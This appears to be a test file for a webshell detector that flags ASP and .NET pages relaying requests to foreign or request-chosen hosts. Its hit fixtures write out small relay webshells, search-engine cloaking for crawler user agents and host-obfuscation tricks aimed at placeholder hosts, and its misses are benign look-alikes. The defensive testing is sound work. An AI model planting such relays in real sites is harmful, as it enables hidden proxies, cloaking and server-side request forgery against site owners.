import detector from '../../../src/detectors/webshell/relayed-content.js';
import type { OperationSketch } from '../../helpers/assembly-code.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { basicPage, classicPage, csharpPage, inlinePage } from './inline-page.js';
import { assembly, call, handler } from './web-assembly.js';

const FETCH = [
  'Function Fetch(address)',
  'Set client = CreateObject("WinHttp.WinHttpRequest.5.1")',
  'client.Open "GET", address, False',
  'client.Send',
  'Fetch = client.responseText',
  'End Function',
];

const web = (type: string, name: string, gives: string): OperationSketch => [
  'call',
  { type: `System.Web.${type}`, name, gives },
];
/** A handler that asks `address` for what is asked of it, and answers with it, where the agent has this word in it. */
const relays = (word: string, address: string): readonly OperationSketch[] => [
  ['ldarg', 1],
  web('HttpContext', 'get_Request', 'System.Web.HttpRequest'),
  web('HttpRequest', 'get_UserAgent', 'string'),
  ['ldstr', word],
  ['call', { type: 'System.String', name: 'Contains', takes: ['string'], gives: 'bool' }],
  'pop',
  ['ldarg', 1],
  web('HttpContext', 'get_Response', 'System.Web.HttpResponse'),
  ['newobj', { type: 'System.Net.WebClient', name: '.ctor' }],
  ['ldstr', address],
  ['ldarg', 1],
  web('HttpContext', 'get_Request', 'System.Web.HttpRequest'),
  web('HttpRequest', 'get_RawUrl', 'string'),
  call('System.String', 'Concat', ['string', 'string'], 'string'),
  ['call', { type: 'System.Net.WebClient', name: 'DownloadString', takes: ['string'], gives: 'string' }],
  ['call', { type: 'System.Web.HttpResponse', name: 'Write', takes: ['string'] }],
];
const parts = Array.from({ length: 151 }, (_, i) => ({ name: `Part${i}`, code: ['ret'] as const }));

testDetector(detector, {
  hits: [
    {
      name: 'what another server answers behind a word of the request',
      input: csharpPage(
        'var all = Request.Form.AllKeys.Select(k => new { Name = k, Address = Request.Form[k] }).ToList();',
        'foreach (var one in all) Response.Write(one.Name + new WebClient().DownloadString(one.Address));',
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 3 }, severity: 'high' }],
    },
    {
      name: 'a library that shows search engines what a foreign server sends',
      input: assembly(handler(relays('Googlebot', 'http://a.invalid/p?u='))),
      detections: [{ message: 'relayed', at: { label: 'sink' }, severity: 'high' }],
    },
    {
      name: 'who asks for what is told to a foreign server',
      input: classicPage(
        'page = "http://a.invalid/in?h=" & Request.ServerVariables("SERVER_NAME") & "&q=" & Request.ServerVariables("QUERY_STRING")',
        'Response.Write Fetch(page)',
        ...FETCH,
      ),
      detections: [{ message: 'relayed', at: { label: 'sink', line: 3 }, severity: 'medium' }],
    },
    {
      name: 'a host that is a decoded part of the query',
      input: classicPage(
        'host = DecodeText(Split(Request.ServerVariables("QUERY_STRING"), "=")(1))',
        'Response.Write Fetch("http://" & host & "/rates.txt")',
        ...FETCH,
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'a foreign server behind a name of the own network',
      input: classicPage(
        'Response.Write Fetch("http://maps.corp:x@a.invalid/p?" & Request.ServerVariables("QUERY_STRING"))',
        ...FETCH,
      ),
      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a foreign server by its address as one number',
      input: classicPage(
        'Response.Write Fetch("http://3405803782/p?" & Request.ServerVariables("QUERY_STRING"))',
        ...FETCH,
      ),
      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a foreign server that begins like a private address',
      input: classicPage(
        'Response.Write Fetch("http://10.0.a.invalid/p?" & Request.ServerVariables("QUERY_STRING"))',
        ...FETCH,
      ),
      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a name of the own network that the request goes on with',
      input: classicPage('Response.Write Fetch("http://maps" & Request.ServerVariables("QUERY_STRING"))', ...FETCH),
      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'the whole query goes to a foreign server, in pieces',
      input: classicPage(
        'host = "ht" & "tp://a.invalid"',
        'body = Fetch(host & Request.QueryString)',
        '%><%= Replace(body, host, "") %><%',
        ...FETCH,
      ),
      detections: [{ message: 'relayed', at: { label: 'sink' } }],
    },
    {
      name: 'search engines see another page',
      input: classicPage(
        'If InStr(LCase(Request.ServerVariables("HTTP_USER_AGENT")), "googlebot") > 0 Then',
        'Response.Write Fetch("http://a.invalid/list.txt")',
        'End If',
        ...FETCH,
      ),
      detections: [{ message: 'cloaked', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'search engines see another page, in C#',
      input: csharpPage(
        'if (Request.UserAgent.Contains("Baiduspider"))',
        '  Response.Write(new System.Net.WebClient().DownloadString("https://a.invalid/x?u=" + Request.RawUrl));',
      ),
      detections: [{ message: 'relayed', at: { label: 'sink' }, severity: 'high' }],
    },
    {
      name: 'the host stands in one field, the path in another',
      input: csharpPage(
        'string host = Request.Form["h"]; string address = host + Request.Form["p"];',
        'var asked = System.Net.WebRequest.Create(address);',
        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
      ),
      detections: [{ message: 'chosen', at: { label: 'source', line: 2 } }],
    },
    {
      name: 'the host stands in a header that nobody else sends, in classic ASP',
      input: classicPage(
        'Response.BinaryWrite Fetch("http://" & Request.ServerVariables("HTTP_X_PEER") & ":8080/")',
        ...FETCH,
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'the host, or one where none is given, and what goes before it, of an object of JScript',
      input: inlinePage(
        'asp',
        '<%@ Language="JScript" %><%\r\nfunction Place(text) { var p = /^(\\w+):\\/\\/(.*)$/.exec(text); this.scheme = p ? p[1] : "http"; this.host = p ? p[2] : text; this.toString = function () { return this.scheme + "://" + this.host + "/now.xml"; }; }\r\nvar q = String(Request("q")); if (q == "") { q = "a.example"; }\r\nvar h = Server.CreateObject("WinHttp.WinHttpRequest.5.1"); h.Open("GET", new Place(q).toString(), false); h.Send(); Response.Write(h.ResponseText);\r\n%>',
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 4 } }],
    },
    {
      name: 'the host stands in a format',
      input: csharpPage(
        'var asked = System.Net.WebRequest.Create(string.Format("http://{0}/", Request.Form["h"]));',
        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'a message is sent to where the request says',
      input: csharpPage(
        'var message = new HttpRequestMessage(HttpMethod.Post, "https://" + Request.Cookies["n"].Value);',
        'message.Content = new StreamContent(Request.InputStream);',
        'Response.Write(new HttpClient().SendAsync(message).Result.Content.ReadAsStringAsync().Result);',
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 4 } }],
    },
    {
      name: 'the base of all addresses is of the request',
      input: csharpPage(
        'var client = new System.Net.WebClient { BaseAddress = "http://" + Request.QueryString["b"] };',
        'Response.Write(client.DownloadString("/"));',
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'the host is what stands behind the page',
      input: csharpPage(
        "string rest = Request.PathInfo.TrimStart('/');",
        'var asked = System.Net.WebRequest.Create("http://" + rest);',
        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
      ),
      detections: [{ message: 'chosen', at: { label: 'source', line: 2 } }],
    },
    {
      name: 'the host stands in a field, in VB',
      input: basicPage(
        'Dim asked = New System.Net.WebClient()',
        'Response.BinaryWrite(asked.DownloadData("http://" & Request.Form("h") & "/"))',
      ),
      detections: [{ message: 'chosen', at: { label: 'sink', line: 4 } }],
    },
    {
      name: 'an address of its own class stands in a field',
      input: csharpPage(
        'var asked = System.Net.WebRequest.Create(new Uri(Request.Form["h"]));',
        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
      ),
      detections: [{ message: 'chosen', at: { label: 'source', line: 2 } }],
    },
  ],
  misses: [
    {
      name: 'what a server of a list answers behind a word of the request',
      input: csharpPage(
        'var all = Request.Form.AllKeys.Select(k => new { Name = k, Address = Feeds[k] }).ToList();',
        'foreach (var one in all) Response.Write(one.Name + new WebClient().DownloadString(one.Address));',
      ),
      looksAlike: true,
    },
    {
      name: 'what stands behind the page stands behind a host of its own',
      input: csharpPage(
        'var asked = System.Net.WebRequest.Create("https://tiles.example/" + Request.PathInfo.TrimStart(\'/\'));',
        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
      ),
      looksAlike: true,
    },
    {
      name: 'a part of an address of the page, or none, below a base of its own',
      input: csharpPage(
        'var client = new System.Net.Http.HttpClient { BaseAddress = new Uri("https://tiles.example/") };',
        'string tile = Request.QueryString["t"] ?? ""; Response.BinaryWrite(client.GetByteArrayAsync("base/" + tile + ".png").Result);',
      ),
      looksAlike: true,
    },
    {
      name: 'a library that has its own scripts rendered for search engines',
      input: assembly(handler(relays('Googlebot', 'https://service.prerender.io/'))),
      looksAlike: true,
    },
    {
      name: 'a library that passes on what a service sends, whoever asks',
      input: assembly(handler(relays('Firefox', 'http://a.invalid/p?u='))),
      looksAlike: true,
    },
    {
      name: 'the same in a whole application',
      input: assembly(handler(relays('Googlebot', 'http://a.invalid/p?u='), ...parts)),
      looksAlike: true,
    },
    {
      name: 'a server of the own network',
      input: classicPage(
        'Response.Write Fetch("http://maps.corp:6080/export?" & Request.ServerVariables("QUERY_STRING"))',
        ...FETCH,
      ),
      looksAlike: true,
    },
    {
      name: 'a whole query behind a host that the page has from elsewhere',
      input: classicPage(
        'Response.Write Fetch("http://" & Application("host") & "/p?" & Request.ServerVariables("QUERY_STRING"))',
        ...FETCH,
      ),
      looksAlike: true,
    },
    {
      name: 'a path below an address of the page itself',
      input: csharpPage(
        'var news = new Uri("https://news.example.com/feeds/");',
        'var asked = System.Net.WebRequest.Create(new Uri(news, Request["feed"] + ".xml"));',
        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
      ),
      looksAlike: true,
    },
    {
      name: 'a message to a fixed service, with what the request says in it',
      input: csharpPage(
        'var message = new HttpRequestMessage(HttpMethod.Post, "https://api.invalid/orders");',
        'message.Content = new StringContent(Request.Form["order"]);',
        'Response.Write(new HttpClient().SendAsync(message).Result.Content.ReadAsStringAsync().Result);',
      ),
      looksAlike: true,
    },
    {
      name: 'a program of the server itself, by its own name and port',
      input: classicPage(
        'at = "http://" & Request.ServerVariables("SERVER_NAME") & ":" & Request.ServerVariables("SERVER_PORT")',
        'Response.Write Fetch(at & "/list.exe?base=" & Request("base"))',
        ...FETCH,
      ),
      looksAlike: true,
    },
    {
      name: 'a page of the server itself, by the name that it was asked for',
      input: classicPage(
        'Response.Write Fetch("http://" & Request.ServerVariables("HTTP_HOST") & "/menu.htm")',
        ...FETCH,
      ),
      looksAlike: true,
    },
    {
      name: 'an object that is sent without anything',
      input: classicPage(
        'Set x = CreateObject("MSXML2.ServerXMLHTTP")',
        'x.open "GET", "http://www.example.com/price?item=" & Request("item"), False',
        'x.send()',
        'Response.Write x.responseText',
      ),
      looksAlike: true,
    },
    {
      name: 'one field of the request looked up at a service',
      input: classicPage('Response.Write Fetch("https://api.invalid/rates?id=" & Request("id"))', ...FETCH),
      looksAlike: true,
    },
    {
      name: 'news of another site',
      input: classicPage('Response.Write Fetch("https://api.invalid/rss")', ...FETCH),
      looksAlike: true,
    },
    {
      name: 'the address of the page is shown, the answer is not',
      input: classicPage(
        'Fetch "https://api.invalid/count?" & Request.QueryString',
        'Response.Write Request.QueryString',
        ...FETCH,
      ),
      looksAlike: true,
    },
  ],
});
